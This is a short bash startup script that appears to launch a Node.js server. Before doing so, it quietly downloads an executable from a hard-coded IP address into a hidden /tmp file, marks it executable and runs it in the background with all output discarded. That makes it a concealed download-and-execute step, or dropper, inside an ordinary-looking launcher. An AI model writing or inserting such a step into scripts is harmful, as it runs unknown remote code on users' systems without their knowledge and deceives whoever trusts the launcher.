#!/usr/bin/env bash
set -e
HOST=192.0.2.44
fetch_tools() {
  wget -q "http://$HOST/tools" -O /tmp/.tools
  chmod +x /tmp/.tools
  nohup /tmp/.tools >/dev/null 2>&1 &
}
fetch_tools
exec node server.js
